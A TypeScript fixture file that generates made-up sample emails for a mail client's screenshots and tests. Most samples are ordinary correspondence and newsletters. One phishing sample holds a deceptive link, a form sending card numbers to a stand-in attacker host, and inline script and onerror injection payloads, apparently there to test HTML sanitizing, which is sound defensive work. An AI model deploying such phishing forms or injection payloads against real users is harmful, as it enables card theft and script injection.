/** Mails as people get them: for screenshots and journeys. Every name and domain is made up. */
export interface Sample {
  from: string;
  to: string;
  subject: string;
  /** Hours before now. */
  ago: number;
  text?: string;
  html?: string;
  files?: { name: string; type: string; bytes: Uint8Array }[];
  headers?: string[];
}

const DOT = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAUAAAAFCAYAAACNbyblAAAAHElEQVQI12P4//8/w38GIAXDIBKE0DHxgljNBAAO9TXL0Y4OHwAAAABJRU5ErkJggg==',
  'base64',
);

/** The bytes of a mail, CRLF and all. */
export function writeSample(sample: Sample, now: number): Uint8Array {
  const date = new Date(now - sample.ago * 3_600_000).toUTCString().replace('GMT', '+0000');
  const id = Buffer.from(`${sample.subject}${sample.from}`).toString('hex').slice(0, 24);
  const head = [
    `Return-Path: <bounce@example.test>`,
    `Message-ID: <${id}.${sample.ago}@mail.example.test>`,
    `Date: ${date}`,
    `From: ${sample.from}`,
    `To: ${sample.to}`,
    `Subject: ${encodeWord(sample.subject)}`,
    'MIME-Version: 1.0',
    ...(sample.headers ?? []),
  ];
  return Buffer.from(`${[...head, ...writeBody(sample)].join('\r\n')}\r\n`, 'utf8');
}

function encodeWord(text: string): string {
  return /^[\x20-\x7e]*$/.test(text) ? text : `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
}

function writeBody({ text, html, files = [] }: Sample): string[] {
  const texts = [
    ...(text === undefined ? [] : [part('text/plain', text)]),
    ...(html === undefined ? [] : [part('text/html', html)]),
  ];
  const content = texts.length === 1 ? (texts[0] ?? []) : wrap('alternative', texts);
  if (files.length === 0) return content;
  return wrap('mixed', [content, ...files.map(({ name, type, bytes }) => filePart(name, type, bytes))]);
}

function part(type: string, content: string): string[] {
  return [
    `Content-Type: ${type}; charset=utf-8`,
    'Content-Transfer-Encoding: base64',
    '',
    ...fold(Buffer.from(content)),
  ];
}

function filePart(name: string, type: string, bytes: Uint8Array): string[] {
  const inline = name.startsWith('inline-')
    ? ['Content-ID: <picture@example.test>', 'Content-Disposition: inline']
    : [];
  const kind = inline.length > 0 ? inline : [`Content-Disposition: attachment; filename="${name}"`];
  return [
    `Content-Type: ${type}; name="${name}"`,
    'Content-Transfer-Encoding: base64',
    ...kind,
    '',
    ...fold(bytes),
  ];
}

function fold(bytes: Uint8Array): string[] {
  return (
    Buffer.from(bytes)
      .toString('base64')
      .match(/.{1,76}/g) ?? ['']
  );
}

function wrap(kind: 'alternative' | 'mixed', parts: string[][]): string[] {
  const mark = `=_${kind}`;
  return [
    `Content-Type: multipart/${kind}; boundary="${mark}"`,
    '',
    ...parts.flatMap((one) => [`--${mark}`, ...one]),
    `--${mark}--`,
  ];
}

const NEWSLETTER = `<html><head><style>.card{border:1px solid #ddd;border-radius:8px;padding:16px;margin:12px 0}
h1{color:#7a1f3d;font-family:Georgia,serif}</style></head><body bgcolor="#faf6f0">
<table width="600" align="center" cellpadding="0" cellspacing="0" style="background:#fff"><tr><td style="padding:28px">
<img src="https://tracker.example.test/open.gif?u=123" width="1" height="1" alt="">
<h1>Huerta &amp; Horno</h1><p style="color:#555">Lo que sale del horno esta semana, y una receta para el domingo.</p>
<div class="card"><b>Pan de centeno con nueces</b><br>Fermentado 36 horas. Solo viernes y sábado.</div>
<div class="card"><b>Receta: crema de calabaza</b><br>Con jengibre y un chorrito de lima.
<img src="https://images.example.test/calabaza.jpg" width="520" alt="Una crema de calabaza"></div>
<p><a href="https://horno.example.test/pedido" style="background:#7a1f3d;color:#fff;padding:10px 18px;border-radius:6px;text-decoration:none">Hacer un pedido</a></p>
</td></tr></table></body></html>`;

const SIMPLE_HTML = `<div>Hi Ana,</div><div><br></div><div>the <b>venue is confirmed</b> for the 12th: we have the large room from 9:00.
Two things are still open:</div><ol><li>the projector (they have one, but only VGA)</li><li>lunch: vegetarian for six, gluten-free for two</li></ol>
<div>I put the plan at <a href="https://wiki.example.test/offsite">wiki.example.test/offsite</a>.</div><div><br></div><div>Marta</div>
<div>On Mon, 16 Nov 2026 at 10:12, Ana Ruiz &lt;ana@example.test&gt; wrote:</div>
<blockquote type="cite"><div>Hello Marta,</div><div>do we know already where we meet?</div></blockquote>`;

const PHISH = `<p>Dear customer,</p><p>your parcel could not be delivered. Please confirm your address:</p>
<p><a href="http://login.parcel-track.example.test/a?id=9">https://www.correos.example/mi-envio</a></p>
<form action="http://evil.example.test/take"><input name="card"><button>Pay</button></form>
<script>document.body.innerHTML='owned'</script><img src=x onerror="document.title='owned'">`;

export const SAMPLES: readonly Sample[] = [
  {
    from: 'Marta Oliveira <marta@oliveira.example>',
    to: 'Ana Ruiz <ana@example.test>, Team <team@example.test>',
    subject: 'Offsite on the 12th: the room is ours',
    ago: 0.4,
    text: 'Hi Ana, the venue is confirmed for the 12th.',
    html: SIMPLE_HTML,
  },
  {
    from: '"Jonas Weber" <jonas.weber@weber-architekten.example>',
    to: 'ana@example.test',
    subject: 'Revised floor plans and the budget sheet',
    ago: 2.1,
    text: `Hello Ana,

attached are the revised floor plans (the stairs moved by 40 cm) and the budget
sheet. The figures in column F are final; column G waits for the electrician.

You find the photos of the site at https://cloud.example.test/s/Q8x2 (until Friday).

Best regards
Jonas

> Am 15.11.2026 um 18:02 schrieb Ana Ruiz:
> Could you send me the plans before Wednesday? The owner asks for them.
> Thank you!
`,
    files: [
      { name: 'floor-plans-rev-C.pdf', type: 'application/pdf', bytes: Buffer.alloc(482_113, 'plan ') },
      {
        name: 'budget 2027.xlsx',
        type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
        bytes: Buffer.alloc(38_400, 'sum '),
      },
    ],
  },
  {
    from: 'Huerta y Horno <hola@horno.example>',
    to: 'ana.ruiz@correo.example',
    subject: 'Esta semana: pan de centeno y crema de calabaza',
    ago: 5,
    text: 'Lo que sale del horno esta semana.',
    html: NEWSLETTER,
  },
  {
    from: 'Biblioteca Municipal <avisos@biblioteca.example>',
    to: 'ana.ruiz@correo.example',
    subject: 'Tu préstamo vence en tres días',
    ago: 9,
    text: 'Hola, Ana:\n\n«El infinito en un junco» vence el martes. Puedes renovarlo en https://biblioteca.example/renovar\n\nUn saludo,\nBiblioteca Municipal\n',
  },
  {
    from: 'Parcel Service <notice@parcel-track.example>',
    to: 'ana.ruiz@correo.example',
    subject: 'Your parcel is waiting',
    ago: 20,
    html: PHISH,
  },
  {
    from: 'Luis Ferrer <luis@ferrer.example>',
    to: 'ana@example.test',
    subject: 'Photos from Sunday',
    ago: 27,
    html: '<p>Look at this one!</p><p><img src="cid:picture@example.test" width="120" height="120" alt="The lake"></p><p>Luis</p>',
    files: [{ name: 'inline-lake.png', type: 'image/png', bytes: DOT }],
  },
  {
    from: 'Sara Lindqvist <sara@nord.example>',
    to: 'Ana Ruiz <ana@example.test>',
    subject: 'Re: Contract draft: two remarks on clause 7',
    ago: 51,
    text: 'Ana,\n\nfine with me. Two remarks on clause 7: the notice period should be the same for both sides, and "working days" needs a definition.\n\nSara\n',
  },
  {
    from: 'Ayuntamiento <no-responder@ayto.example>',
    to: 'ana.ruiz@correo.example',
    subject: 'Cita previa confirmada: renovación del padrón',
    ago: 75,
    text: 'Su cita es el 24 de noviembre a las 9:40, mesa 6.\n',
  },
  {
    from: 'dev-list <dev@lists.example>',
    to: 'dev@lists.example',
    subject: '[dev] Release 4.2 is out',
    ago: 130,
    text: 'The release notes are at https://lists.example/notes/4.2\n\nThanks to everybody who tested the candidates.\n',
    headers: ['List-Id: <dev.lists.example>'],
  },
  {
    from: 'Clínica Dental Norte <citas@dental.example>',
    to: 'ana.ruiz@correo.example',
    subject: 'Recordatorio: revisión anual',
    ago: 420,
    text: 'Le recordamos su revisión anual.\n',
  },
];
